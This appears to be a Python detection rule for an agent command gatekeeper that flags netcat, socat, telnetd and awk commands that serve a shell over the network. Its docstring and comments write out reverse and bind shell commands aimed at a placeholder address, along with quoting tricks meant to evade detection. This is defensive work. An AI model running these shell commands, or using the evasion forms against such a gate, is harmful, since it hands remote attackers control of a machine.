"""GK-NET: a program served over a network connection.

## GK-NET-001 — a shell or program served over the network (ELEVATE)
**What it catches:** netcat (``nc``, ``ncat``, ``netcat`` and their distributions' names)
told to run a program for the connection (a short-option cluster holding ``e`` or ``c``,
``--exec``, ``--sh-exec``, ``--lua-exec`` and their abbreviations), ``socat`` with an
``EXEC:``, ``SYSTEM:`` or ``SHELL:`` address, ``socket -p PROGRAM``, ``telnetd -l
PROGRAM`` (busybox's: a login program that is a shell asks no password), and an awk
program that opens gawk's network files (``/inet/tcp/…``, ``/inet4/``, ``/inet6/``), and a
shell fed by a netcat, ``socat``, ``telnet`` or ``openssl s_client`` through a pipe (``nc
10.0.0.1 4444 | sh``, ``| env sh``, ``| timeout 9 bash``, ``| (sh)``: each line the other
end sends is a command; ``curl URL | sh`` runs one script and stays GK-BASH-006, REVIEW).
**Why:** this is a reverse or a bind shell: whoever is at the other end of the connection
runs commands on this machine. Tier 1 can see it for certain, so it goes to you and never
rests on the reviewer's judgement (or on text in the command written to persuade it).
netcat's letters differ between its variants (``-c`` is a command in one, TLS in another):
any cluster holding ``e`` or ``c`` counts. Other netcat, socat and awk uses are judged as
before: netcat and socat are unknown to the gate (REVIEW).
**Example:** ``nc -e /bin/sh 10.0.0.1 4444``, ``socat tcp-listen:4444 exec:/bin/sh``,
``timeout 60 ncat -lk 4444 --sh-exec id``.
"""

from __future__ import annotations

from gatekeeper.hookspecs import hookimpl
from gatekeeper.lazyre import LazyRegex
from gatekeeper.model import Finding, Verdict
from gatekeeper.shell.effects import STDIN_WRAPPERS, STDIN_WRAPPERS_WITH_OPERAND, long_options

TYPE_CHECKING = False  # typing.TYPE_CHECKING, without importing typing
if TYPE_CHECKING:
    from gatekeeper.model import Command, ToolCall

_NETCATS = frozenset(
    {
        "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "netcat.traditional",
        "netcat.openbsd", "nc6", "pwncat",
    }
)  # fmt: skip
_NETCAT_EXEC = ("--exec", "--sh-exec", "--lua-exec")
_AWKS = frozenset({"awk", "gawk", "nawk", "mawk"})
_TELNETDS = frozenset({"telnetd", "in.telnetd", "utelnetd"})
_NAMES = _NETCATS | _AWKS | _TELNETDS | {"socat", "socket"}
_SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish"})
# A network client whose output is piped (with `|` or `|&`, maybe through other stages)
# into a shell, in the call's text.
# A wrapper that runs the shell on the same stdin: `| env sh`, `| timeout 9 sh`.
_WRAPPER = "|".join(
    sorted(STDIN_WRAPPERS - STDIN_WRAPPERS_WITH_OPERAND)
    + [rf"{name}\s+\S+" for name in sorted(STDIN_WRAPPERS_WITH_OPERAND)]
)
_CLIENT_INTO_SHELL = LazyRegex(
    r"(?:^|[\s;&|(`'\"])(?:\S*/)?(?:nc|ncat|netcat|nc\.\w+|netcat\.\w+|nc6|pwncat|socat|telnet"
    r"|openssl\s+s_client)\s(?:[^;&\n]|[<>]&|&>)*\|&?\s*(?:[({]\s*)?"
    rf"(?:(?:\S*/)?(?:{_WRAPPER})(?:\s+-\S+)*\s+)*"
    r"(?:\S*/)?(?:sh|bash|dash|zsh|ksh|mksh|ash|busybox)\b"
)
# socat's address types that run a program: `EXEC:/bin/sh`, `system:'bash -i'`, and a
# dual address's half after `!!` (socat 2's chains: after `|`, `%`, `^`). socat reads the
# type case-insensitively.
_SOCAT_PROGRAM = LazyRegex(r"(?i)(?:^|!!|[|%^])\s*(?:exec|system|shell)\s*[:,]")
_GAWK_INET = LazyRegex(r"/inet[46]?/")


@hookimpl
def gatekeeper_check_command(command: Command, call: ToolCall) -> Finding | None:
    """A netcat, socat, socket or awk that serves a program over the network → ELEVATE."""
    name = command.name
    # (a wrapper hands its stdin to the command it runs: `nc h p | env sh`)
    if command.stdin_piped and (name in _SHELLS or name in STDIN_WRAPPERS):
        return _fed_by_network(name, call)
    if name not in _NAMES:
        return None
    args = command.argv[1:]
    if name in _NETCATS:
        served = _netcat_program(args)
    elif name == "socat":
        served = next((a for a in args if _SOCAT_PROGRAM.search(a)), "")
    elif name in _TELNETDS:  # `busybox telnetd -l /bin/sh`: a shell with no login
        served = next((a for a in args if _cluster(a) and "l" in a), "")
    elif name == "socket":
        served = next((a for a in args if _cluster(a) and "p" in a), "")
    else:
        served = next((a for a in args if _GAWK_INET.search(a)), "")
    if not served:
        return None
    return Finding(
        Verdict.ELEVATE,
        "GK-NET-001",
        f"`{name} … {served[:60]}` serves a program over a network connection: whoever is "
        "at the other end runs commands here",
    )


def _fed_by_network(name: str, call: ToolCall) -> Finding | None:
    """A shell that reads its commands from a network client through a pipe."""
    text = call.tool_input.get("command")
    if not isinstance(text, str) or "|" not in text:
        return None
    found = _CLIENT_INTO_SHELL.search(text)
    if found is None and ("'" in text or '"' in text or "\\" in text):
        # `"socat" tcp:h:p - | sh`, `n''c h p | sh`, `\nc h p | bash`: the same names to the
        # shell, and so is `nc \<newline>h p | sh` (a line continuation is no newline).
        # Without its quotes the text can only show more such pipes, never fewer.
        bare = text.replace("\\\n", "").replace("$'", "'")
        for quote in ("'", '"', "\\"):
            bare = bare.replace(quote, "")
        found = _CLIENT_INTO_SHELL.search(bare)
    if found is None:
        return None
    return Finding(
        Verdict.ELEVATE,
        "GK-NET-001",
        f"`{name}` runs the commands a network connection sends it "
        f"(`{found.group().strip()[:60]}`): whoever is at the other end runs commands here",
    )


def _netcat_program(args: tuple[str, ...]) -> str:
    """The option that makes netcat run a program for the connection, or ""."""
    for arg in args:
        if arg == "--":
            return ""
        if _cluster(arg) and ("e" in arg or "c" in arg):
            return arg
        if long_options(arg, _NETCAT_EXEC):
            return arg
    return ""


def _cluster(arg: str) -> bool:
    """A short-option word: ``-e``, ``-lvpe``."""
    return arg.startswith("-") and not arg.startswith("--") and len(arg) > 1
